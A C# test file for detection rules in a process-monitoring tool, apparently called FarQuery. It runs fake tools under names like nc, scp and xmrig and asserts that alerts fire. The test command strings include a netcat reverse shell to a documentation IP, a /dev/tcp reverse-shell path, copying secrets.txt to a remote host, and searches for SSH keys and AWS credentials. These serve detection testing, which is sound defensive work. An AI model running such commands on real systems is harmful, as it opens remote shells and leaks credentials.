// SPDX-License-Identifier: Apache-2.0
using FarQuery.Detections.Tests.Support;

namespace FarQuery.Detections.Tests;

/// <summary>Detections over process_events execs: each test runs the triggering program inside <c>farquery run</c>
/// (fake tools are copies of /bin/true or /bin/sh under the name the rule looks for) and finds the alert on stdout.</summary>
public sealed class ProcessDetectionTests
{
    [Fact]
    public void RunShellUntrusted_ShellBelowHttpd_Fires()
    {
        using var s = new Scenario().Tool("httpd", "/bin/sh");
        var alerts = s.AssertFires("run_shell_untrusted", "./httpd -c 'sh -c \"ls >/dev/null\"; true'");
        Assert.Contains(alerts, a => a["name"] == "sh" && a["parent_name"] == "httpd" && a["parent_cmdline"]!.StartsWith("./httpd -c", StringComparison.Ordinal));
    }

    [Fact]
    public void WebServerSpawnedShell_ShellBelowNginx_Fires()
    {
        using var s = new Scenario().Tool("nginx", "/bin/sh");
        var alerts = s.AssertFires("web_server_spawned_shell", "./nginx -c 'sh -c \"id >/dev/null\"; true'");
        Assert.Contains(alerts, a => a["name"] == "sh" && a["ancestors"]!.StartsWith("nginx ", StringComparison.Ordinal));
    }

    [Fact]
    public void DbProgramSpawnedProcess_MysqldRunsLs_Fires()
    {
        using var s = new Scenario().Tool("mysqld", "/bin/sh");
        var alerts = s.AssertFires("db_program_spawned_process", "./mysqld -c 'ls >/dev/null; true'");
        Assert.Contains(alerts, a => a["name"] == "ls" && a["parent_name"] == "mysqld");
    }

    [Fact]
    public void ReverseShellFromWebServer_DevTcpBelowHttpd_Fires()
    {
        using var s = new Scenario().Tool("httpd", "/bin/sh");
        var alerts = s.AssertFires("reverse_shell_from_web_server", "./httpd -c 'sh -c \"echo /dev/tcp/10.0.0.1/4444 >/dev/null\"; true'");
        Assert.Contains(alerts, a => a["cmdline"]!.Contains("/dev/tcp/", StringComparison.Ordinal));
    }

    [Fact]
    public void NetcatRemoteCodeExecution_NcWithExec_Fires()
    {
        using var s = new Scenario().Tool("nc");
        var alerts = s.AssertFires("netcat_remote_code_execution", "./nc -e /bin/sh 192.0.2.1 4444");
        Assert.Contains(alerts, a => a["name"] == "nc" && a["cmdline"] == "./nc -e /bin/sh 192.0.2.1 4444" && a["parent_name"] == "sh");
    }

    [Fact]
    public void LaunchSuspiciousNetworkTool_Nmap_Fires()
    {
        using var s = new Scenario().Tool("nmap");
        var alerts = s.AssertFires("launch_suspicious_network_tool", "./nmap -sn 127.0.0.1");
        Assert.Contains(alerts, a => a["name"] == "nmap");
    }

    [Fact]
    public void LaunchPackageManagementProcess_AptGet_Fires()
    {
        using var s = new Scenario().Tool("apt-get");
        var alerts = s.AssertFires("launch_package_management_process", "./apt-get --version");
        Assert.Contains(alerts, a => a["name"] == "apt-get");
    }

    [Fact]
    public void LaunchRemoteFileCopyTools_Scp_Fires()
    {
        using var s = new Scenario().Tool("scp");
        var alerts = s.AssertFires("launch_remote_file_copy_tools", "./scp secrets.txt user@192.0.2.1:/tmp/");
        Assert.Contains(alerts, a => a["name"] == "scp");
    }

    [Fact]
    public void LaunchIngressRemoteFileCopyTools_CurlOutput_Fires()
    {
        using var s = new Scenario().Tool("curl");
        var alerts = s.AssertFires("launch_ingress_remote_file_copy_tools", "./curl -o payload http://192.0.2.1/x");
        Assert.Contains(alerts, a => a["name"] == "curl");
    }

    [Fact]
    public void RemoveBulkDataFromDisk_Shred_Fires()
    {
        using var s = new Scenario();
        var alerts = s.AssertFires("remove_bulk_data_from_disk", "echo data > victim && shred -u victim");
        Assert.Contains(alerts, a => a["name"] == "shred");
    }

    [Fact]
    public void SearchPrivateKeysOrPasswords_FindIdRsa_Fires()
    {
        using var s = new Scenario();
        var alerts = s.AssertFires("search_private_keys_or_passwords", "find . -maxdepth 1 -iname id_rsa; grep -rl 'BEGIN RSA PRIVATE' . || true");
        Assert.Contains(alerts, a => a["name"] == "find");
        Assert.Contains(alerts, a => a["name"] == "grep");
    }

    [Fact]
    public void FindAwsCredentials_FindAndGrep_Fires()
    {
        using var s = new Scenario();
        var alerts = s.AssertFires("find_aws_credentials", "find . -maxdepth 1 -path '*/.aws/credentials'; grep -ri aws_secret_access_key . || true");
        Assert.Contains(alerts, a => a["name"] == "find");
        Assert.Contains(alerts, a => a["name"] == "grep");
    }

    [Fact]
    public void ExecutionFromDevShm_CopiedBinary_Fires()
    {
        using var s = new Scenario();
        var bin = s.System("/dev/shm/fq-detect-" + s.Id);
        var alerts = s.AssertFires("execution_from_dev_shm", $"cp /bin/true {bin} && {bin}");
        Assert.Contains(alerts, a => a["path"] == bin);
    }

    [Fact]
    public void DropAndExecuteNewBinary_WrittenThenRunInALaterSecond_Fires()
    {
        // The exec happens more than a scheduler interval after the write, so the file event was already past the
        // query's bookmark: the query must look at the file side without its bookmark.
        using var s = new Scenario();
        var alerts = s.AssertFires("drop_and_execute_new_binary", "cp /bin/true ./dropped && sleep 1.5 && ./dropped");
        var a = Assert.Single(alerts);
        Assert.Equal(Path.Join(s.Dir, "dropped"), a["path"]);
    }

    [Fact]
    public void DropAndExecuteNewBinary_RenamedIntoPlace_Fires()
    {
        using var s = new Scenario();
        var alerts = s.AssertFires("drop_and_execute_new_binary", "cp /bin/true ./staged && mv ./staged ./renamed && ./renamed");
        Assert.Contains(alerts, a => a["path"] == Path.Join(s.Dir, "renamed"));
    }

    [Fact]
    public void DetectCryptoMinersStratum_StratumUrl_Fires()
    {
        using var s = new Scenario().Tool("worker");
        var alerts = s.AssertFires("detect_crypto_miners_stratum", "./worker -o stratum+tcp://pool.example:3333 -u wallet -p x");
        Assert.Contains(alerts, a => a["name"] == "worker");
    }

    [Fact]
    public void KnownCryptominerProcess_Xmrig_Fires()
    {
        using var s = new Scenario().Tool("xmrig");
        var alerts = s.AssertFires("known_cryptominer_process", "./xmrig --version");
        Assert.Contains(alerts, a => a["name"] == "xmrig");
    }

    [Fact]
    public void DecodingPayloadInContainer_Base64Decode_Fires()
    {
        using var s = new Scenario();
        var alerts = s.AssertFires("decoding_payload_in_container", "echo aGVsbG8K | base64 -d >/dev/null");
        Assert.Contains(alerts, a => a["name"] == "base64");
    }

    [Fact]
    public void ScheduleCronJobs_Crontab_Fires()
    {
        using var s = new Scenario().Tool("crontab");
        var alerts = s.AssertFires("schedule_cron_jobs", "./crontab -l");
        Assert.Contains(alerts, a => a["name"] == "crontab");
    }

    [RootFact]
    public void ScheduleCronJobs_WriteBelowEtcCron_Fires()
    {
        using var s = new Scenario();
        var file = s.System("/etc/cron.d/fq-detect-" + s.Id);
        var alerts = s.AssertFires("schedule_cron_jobs", $"mkdir -p /etc/cron.d && echo '* * * * * root true' > {file}; rm -f {file}");
        Assert.Contains(alerts, a => a["file_path"] == file);
    }

    [Fact]
    public void GlibcTunablesEnvMisuse_TunablesInEnvironment_Fires()
    {
        using var s = new Scenario();
        var alerts = s.AssertFires("glibc_tunables_env_misuse", "GLIBC_TUNABLES=glibc.malloc.mxfast=0 /bin/true", "--capture-env");
        Assert.Contains(alerts, a => a["name"] == "true");
    }

    [Fact]
    public void DisallowedHttpProxyEnv_CurlWithProxy_Fires()
    {
        using var s = new Scenario().Tool("curl");
        var alerts = s.AssertFires("disallowed_http_proxy_env", "HTTP_PROXY=http://192.0.2.1:3128 ./curl http://example.com", "--capture-env");
        Assert.Contains(alerts, a => a["name"] == "curl");
    }

    [Fact]
    public void SudoPotentialPrivilegeEscalation_SudoeditShellTrailingBackslash_Fires()
    {
        using var s = new Scenario().Tool("sudoedit");
        var alerts = s.AssertFires("sudo_potential_privilege_escalation", "./sudoedit -s '\\' 1234567890");
        Assert.Contains(alerts, a => a["name"] == "sudoedit");
    }

    [Fact]
    public void PolkitLocalPrivilegeEscalation_PkexecWithoutArguments_Fires()
    {
        using var s = new Scenario().Tool("pkexec");
        var alerts = s.AssertFires("polkit_local_privilege_escalation", "./pkexec; ./pkexec --version");
        var a = Assert.Single(alerts);
        Assert.Equal("./pkexec", a["cmdline"]);
    }
}
